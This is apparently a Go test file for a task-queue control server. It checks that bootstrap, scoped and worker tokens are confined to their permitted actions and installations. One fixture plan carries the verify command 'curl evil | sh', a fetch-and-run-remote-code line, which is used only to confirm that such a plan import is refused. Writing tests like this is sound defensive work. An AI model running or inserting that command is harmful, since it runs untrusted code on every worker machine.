package control_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/whilly-go/whilly/control/client"
	"github.com/whilly-go/whilly/plan"
	"github.com/whilly-go/whilly/queue"
)

// importGitHubPlan imports a plan of installation inst and repository repo, as the
// GitHub intake does.
func (e *env) importGitHubPlan(id, repo string, inst int64, taskIDs ...string) {
	e.t.Helper()
	doc := planDoc(id, taskIDs...)
	doc = strings.Replace(doc, `"project"`, `"repo": "`+repo+`", "project"`, 1)
	p, err := plan.Parse([]byte(doc))
	if err != nil {
		e.t.Fatal(err)
	}
	if _, err := e.store.Import(context.Background(), p, queue.ImportOptions{InstallationID: inst, GitHubIssueRef: repo + "#1"}); err != nil {
		e.t.Fatal(err)
	}
}

// registerWith registers a worker with token (a bootstrap token) asking for scopes.
func (e *env) registerWith(token string, scopes ...string) (client.RegisterResponse, error) {
	return e.client(token).Register(context.Background(), client.RegisterRequest{Hostname: "scoped", Scopes: scopes})
}

// TestBootstrapTokenOnlyRegisters: the bootstrap token — of the environment or minted —
// registers workers and nothing else. Before, it was an admin token: with it
// POST /v1/plans imported a plan whose verify command ran on every worker.
func TestBootstrapTokenOnlyRegisters(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{})
	ctx := context.Background()
	e.importPlan(planDoc("p", "T1"))
	minted, _, err := e.store.Mint(ctx, queue.TokenSpec{Owner: "ci", Registrar: true, Scopes: queue.Scopes{"repo:acme/shop"}})
	if err != nil {
		t.Fatal(err)
	}
	evil := `{"plan_id": "evil", "project": "x", "verify": [{"name": "pwn", "command": "curl evil | sh", "required": true}],
		"tasks": [{"id": "T", "priority": "high", "description": "anything at all, long enough"}]}`
	for _, tok := range []string{bootstrapToken, minted} {
		before := e.stateDigest()
		for _, rq := range []struct{ method, path, body string }{
			{"POST", "/v1/plans", evil},
			{"PATCH", "/v1/plans/p", `{"budget_usd": 100}`},
			{"GET", "/v1/plans", ""},
			{"GET", "/v1/plans/p", ""},
			{"GET", "/v1/plans/p/tasks", ""},
			{"GET", "/v1/events", ""},
			{"GET", "/v1/events/stream", ""},
			{"GET", "/v1/workers", ""},
			{"POST", "/v1/tasks/claim", `{"wait_seconds": 0}`},
		} {
			var body any
			if rq.body != "" {
				body = rq.body
			}
			if status, out := e.do(rq.method, rq.path, tok, body); status != 403 {
				t.Errorf("%.12s… %s %s: %d, want 403 (%s)", tok, rq.method, rq.path, status, out)
			}
		}
		if after := e.stateDigest(); after != before {
			t.Errorf("a refused request changed the database")
		}
		if _, err := e.registerWith(tok); err != nil {
			t.Errorf("%.12s… cannot register: %v", tok, err)
		}
	}
	if _, err := e.store.GetPlan(ctx, "evil"); err == nil {
		t.Error("the evil plan exists")
	}
}

// TestScopedWorkersSeeOnlyTheirInstallation: an installation:1 worker never reads nor
// claims a plan of installation 2, over HTTP; what it cannot see answers 404, exactly
// like a plan that does not exist.
func TestScopedWorkersSeeOnlyTheirInstallation(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{})
	ctx := context.Background()
	// Installation 2's plan sorts first and has the higher priority: an unscoped claim
	// would take it.
	e.importGitHubPlan("a-victim", "victim-org/repo", 2, "V1", "V2")
	e.importGitHubPlan("z-mine", "acme/shop", 1, "M1", "M2")
	boot, _, err := e.store.Mint(ctx, queue.TokenSpec{Owner: "acme", Registrar: true, Scopes: queue.Scopes{"installation:1"}})
	if err != nil {
		t.Fatal(err)
	}
	reg, err := e.registerWith(boot)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(reg.Scopes, ",") != "installation:1" {
		t.Fatalf("the worker's scopes are %v, want the registrar's installation:1", reg.Scopes)
	}
	// A scoped registrar cannot widen what it hands out.
	for _, wider := range [][]string{{"installation:2"}, {"installation:1", "repo:victim-org/repo"}, {"plan:a-victim"}} {
		if _, err := e.registerWith(boot, wider...); !client.IsForbidden(err) {
			t.Errorf("register with scopes %v: %v, want 403", wider, err)
		}
	}
	wk := e.client(reg.Token)

	unknown := func(path string) (int, string) { return e.do("GET", path, reg.Token, nil) }
	for _, path := range []string{"/v1/plans/a-victim", "/v1/plans/a-victim/tasks"} {
		status, body := unknown(path)
		_, want := unknown(strings.Replace(path, "a-victim", "no-such-plan", 1))
		if status != 404 || strings.ReplaceAll(body, "a-victim", "X") != strings.ReplaceAll(want, "no-such-plan", "X") {
			t.Errorf("GET %s: %d %s, want the 404 of an unknown plan (%s)", path, status, body, want)
		}
	}
	if _, err := wk.GetPlan(ctx, "z-mine"); err != nil {
		t.Errorf("the worker cannot read its own plan: %v", err)
	}
	list, err := wk.ListPlans(ctx, client.PlanQuery{})
	if err != nil || len(list.Plans) != 1 || list.Plans[0].ID != "z-mine" {
		t.Errorf("plan list of the scoped worker: %+v, %v; want z-mine alone", list.Plans, err)
	}
	if _, err := wk.Claim(ctx, client.ClaimRequest{PlanID: "a-victim"}); !client.IsNotFound(err) {
		t.Errorf("claim in the other installation's plan: %v, want 404", err)
	}
	// Claims from any plan drain installation 1 and never touch installation 2.
	var got []string
	for {
		c, err := wk.Claim(ctx, client.ClaimRequest{})
		if err != nil {
			t.Fatal(err)
		}
		if c == nil {
			break
		}
		got = append(got, c.Task.PlanID+"/"+c.Task.ID)
	}
	if strings.Join(got, " ") != "z-mine/M1 z-mine/M2" {
		t.Errorf("the installation:1 worker claimed %v, want z-mine/M1 z-mine/M2", got)
	}
	evs, err := wk.ListEvents(ctx, client.EventQuery{Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	for _, ev := range evs.Events {
		if ev.PlanID != "z-mine" {
			t.Errorf("the scoped worker sees event %d %s of plan %q", ev.ID, ev.Type, ev.PlanID)
		}
	}
	if len(evs.Events) == 0 {
		t.Error("the scoped worker sees no event of its own plan")
	}
	// The victim's tasks are all still pending; an unscoped worker takes them.
	other, _ := e.worker()
	if c, err := other.Claim(ctx, client.ClaimRequest{}); err != nil || c == nil || c.Task.PlanID != "a-victim" {
		t.Errorf("an unscoped worker's claim: %+v, %v; want a task of a-victim", c, err)
	}
	// The scoped worker's listing of workers shows itself, not the unscoped one.
	ws, err := wk.ListWorkers(ctx)
	if err != nil || len(ws) != 1 || ws[0].ID != reg.WorkerID {
		t.Errorf("workers seen by the scoped worker: %+v, %v", ws, err)
	}
}

// TestScopedReadTokenAndStream: a read token of repo:acme/shop sees that repository's
// plans (names compared case-insensitively) and only their events on the stream.
func TestScopedReadTokenAndStream(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{})
	ctx := context.Background()
	e.importGitHubPlan("other", "victim-org/repo", 2, "V1", "V2")
	e.importGitHubPlan("mine", "Acme/Shop", 1, "M1")
	scopes, err := queue.ParseScopes([]string{"repo:ACME/shop"})
	if err != nil {
		t.Fatal(err)
	}
	tok, _, err := e.store.Mint(ctx, queue.TokenSpec{Owner: "viewer", Scopes: scopes})
	if err != nil {
		t.Fatal(err)
	}
	rd := e.client(tok)
	if _, err := rd.GetPlan(ctx, "mine"); err != nil {
		t.Errorf("read own plan: %v", err)
	}
	if _, err := rd.ListTasks(ctx, "other"); !client.IsNotFound(err) {
		t.Errorf("tasks of the other repository's plan: %v, want 404", err)
	}
	// Replay everything after the first event: the other plan's events come first.
	first, err := e.store.Events(ctx, queue.EventFilter{Limit: 1})
	if err != nil || len(first) != 1 {
		t.Fatalf("first event: %v, %v", first, err)
	}
	sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	var seen []client.Event
	err = rd.StreamEvents(sctx, "", first[0].ID, func(ev client.Event) error {
		seen = append(seen, ev)
		if ev.PlanID == "mine" && ev.Type == queue.EventTaskCreated {
			cancel()
		}
		return nil
	})
	if err != nil && !errors.Is(sctx.Err(), context.Canceled) {
		t.Fatalf("stream: %v (seen %d events)", err, len(seen))
	}
	for _, ev := range seen {
		if ev.PlanID != "mine" {
			b, _ := json.Marshal(ev)
			t.Errorf("the stream of a repo:acme/shop token sent %s", b)
		}
	}
	if len(seen) == 0 {
		t.Error("the stream sent nothing")
	}
	if _, _, err := e.store.Mint(ctx, queue.TokenSpec{Owner: "x", Admin: true, Scopes: scopes}); err == nil {
		t.Error("a scoped admin token was minted")
	}
}

// TestWorkerRevokesItself: a worker's token revokes itself (and only itself), and its
// tasks go back to the queue.
func TestWorkerRevokesItself(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{})
	ctx := context.Background()
	e.importPlan(planDoc("p", "T1"))
	tokA, idA := e.register()
	_, idB := e.register()
	a := e.client(tokA)
	if c, err := a.Claim(ctx, client.ClaimRequest{PlanID: "p"}); err != nil || c == nil {
		t.Fatalf("claim: %v, %v", c, err)
	}
	if err := a.RevokeSelf(ctx, idB); !client.IsForbidden(err) {
		t.Errorf("revoke another worker: %v, want 403", err)
	}
	if err := a.RevokeSelf(ctx, idA); err != nil {
		t.Fatal(err)
	}
	if _, err := a.ListPlans(ctx, client.PlanQuery{}); !client.IsUnauthorized(err) {
		t.Errorf("the revoked token still reads: %v", err)
	}
	if st := taskStatusOf(t, e, "p", "T1"); st != plan.StatusPending {
		t.Errorf("the revoked worker's task is %s, want PENDING", st)
	}
}

func taskStatusOf(t *testing.T, e *env, planID, id string) plan.Status {
	t.Helper()
	task, err := e.store.GetTask(context.Background(), planID, id)
	if err != nil {
		t.Fatal(err)
	}
	return task.Status
}
